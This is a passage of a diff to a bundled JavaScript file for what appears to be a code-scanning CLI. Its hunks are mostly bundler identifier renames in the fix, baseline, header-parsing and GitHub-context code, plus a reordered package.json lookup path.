   for (const file of [...byFile.keys()].sort()) {
     const list = byFile.get(file);
@@ -19046,7 +20102,7 @@ async function applyFixes(findings, options) {
     }
     let bytes;
     try {
-      bytes = await readFile4(abs);
+      bytes = await readFile2(abs);
     } catch (e) {
       skipAll(`cannot read the file: ${e.code ?? e.message}`);
       continue;
@@ -19230,13 +20286,13 @@ import { existsSync as existsSync2 } from "node:fs";
 import { isAbsolute as isAbsolute3, join as join6, relative as relative4, resolve as resolve6 } from "node:path";
 
 // src/cli/version.ts
-import { readFileSync as readFileSync2 } from "node:fs";
+import { readFileSync as readFileSync4 } from "node:fs";
 var cached2;
 function packageJson() {
   if (!cached2) {
-    for (const rel of ["../../../package.json", "./package.json"]) {
+    for (const rel of ["./package.json", "../../package.json", "../../../package.json"]) {
       try {
-        cached2 = JSON.parse(readFileSync2(new URL(rel, import.meta.url), "utf8"));
+        cached2 = JSON.parse(readFileSync4(new URL(rel, import.meta.url), "utf8"));
         break;
       } catch {
       }
@@ -19444,8 +20500,8 @@ ${FIX_FLAGS_HELP}`,
       if (dryRun) {
         io.stdout.write(fixes.diff);
       } else {
-        const fixed = new Set(fixes.fixed);
-        report = { ...report, findings: report.findings.filter((f) => !fixed.has(f)) };
+        const fixed2 = new Set(fixes.fixed);
+        report = { ...report, findings: report.findings.filter((f) => !fixed2.has(f)) };
       }
       if (dryRun && toTerminal) return exitCodeFor(report, failOn);
     }
@@ -19492,8 +20548,8 @@ function sourceLinesReader(root) {
   return (file) => {
     if (!cache.has(file)) {
       try {
-        const abs = statSync2(root).isDirectory() ? join7(root, file) : root;
-        cache.set(file, readFileSync3(abs, "utf8").split(/\r?\n/));
+        const abs = statSync3(root).isDirectory() ? join7(root, file) : root;
+        cache.set(file, readFileSync5(abs, "utf8").split(/\r?\n/));
       } catch {
         cache.set(file, void 0);
       }
@@ -19525,7 +20581,7 @@ function reportFixes(result2, dryRun, quiet, io) {
 }
 
 // src/ci/baseline.ts
-import { readFile as readFile5, writeFile as writeFile3 } from "node:fs/promises";
+import { readFile as readFile3, writeFile as writeFile3 } from "node:fs/promises";
 var BASELINE_VERSION = 1;
 var BaselineError = class extends Error {
   name = "BaselineError";
@@ -19593,7 +20649,7 @@ function parseBaseline(text, source) {
 async function readBaseline(path) {
   let text;
   try {
-    text = await readFile5(path, "utf8");
+    text = await readFile3(path, "utf8");
   } catch (error) {
     throw new BaselineError(`cannot read baseline ${path}: ${error.code ?? error.message}`);
   }
@@ -20703,12 +21759,12 @@ function parse3(header, options) {
   let index = valueStart;
   let typeFlags = 0;
   let whitespace = -1;
-  let stop2 = options?.parameters === false ? COMMA_FLAG : 0;
+  let stop3 = options?.parameters === false ? COMMA_FLAG : 0;
   while (index < len) {
     const code3 = header.charCodeAt(index);
     const flags2 = CHAR_MAP[code3];
     if ((flags2 & stopFlags) !== 0) {
-      stop2 |= flags2 & COMMA_FLAG;
+      stop3 |= flags2 & COMMA_FLAG;
       break;
     }
     if ((flags2 & OWS) !== 0) {
@@ -20723,7 +21779,7 @@ function parse3(header, options) {
   const valueEnd = whitespace === -1 ? index : whitespace;
   const value = header.slice(valueStart, valueEnd);
   const type = (typeFlags & CASE_FLAGS) === 0 ? value : value.toLowerCase();
-  if (index === len || stop2 !== 0) {
+  if (index === len || stop3 !== 0) {
     return { type, index, parameters: new NullObject() };
   }
   return parseParameters(header, type, index, len, stopFlags);
@@ -20764,17 +21820,17 @@ function parseParameters(header, type, index, len, stopFlags) {
                 parameters[key] = escaped ? unescapeQuotedPairs(header, quotedStart, index) : header.slice(quotedStart, index);
               }
               index++;
-              let stop3 = 0;
+              let stop4 = 0;
               while (index < len) {
                 const code5 = header.charCodeAt(index);
                 const flags3 = CHAR_MAP[code5];
                 if ((flags3 & stopFlags) !== 0) {
-                  stop3 = flags3 & COMMA_FLAG;
+                  stop4 = flags3 & COMMA_FLAG;
                   break;
                 }
                 index++;
               }
-              if (stop3 !== 0)
+              if (stop4 !== 0)
                 break parameter;
               continue parameter;
             }
@@ -20788,13 +21844,13 @@ function parseParameters(header, type, index, len, stopFlags) {
           continue parameter;
         }
         const valueStart = index;
-        let stop2 = 0;
+        let stop3 = 0;
         let valueWhitespace = -1;
         while (index < len) {
           const code4 = header.charCodeAt(index);
           const flags3 = CHAR_MAP[code4];
           if ((flags3 & stopFlags) !== 0) {
-            stop2 = flags3 & COMMA_FLAG;
+            stop3 = flags3 & COMMA_FLAG;
             break;
           }
           if ((flags3 & OWS) !== 0) {
@@ -20809,7 +21865,7 @@ function parseParameters(header, type, index, len, stopFlags) {
           const valueEnd = valueWhitespace === -1 ? index : valueWhitespace;
           parameters[key] = header.slice(valueStart, valueEnd);
         }
-        if (stop2 !== 0)
+        if (stop3 !== 0)
           break parameter;
         continue parameter;
       }
@@ -24265,12 +25321,12 @@ function createGitHubClient(options) {
 }
 
 // src/ci/github/context.ts
-import { readFileSync as readFileSync4 } from "node:fs";
+import { readFileSync as readFileSync6 } from "node:fs";
 var DEFAULT_API_URL = "https://api.github.com";
 function readEvent(path) {
   if (!path) return void 0;
   try {
-    const data = JSON.parse(readFileSync4(path, "utf8"));
+    const data = JSON.parse(readFileSync6(path, "utf8"));
     return typeof data === "object" && data !== null ? data : void 0;
   } catch {
     return void 0;
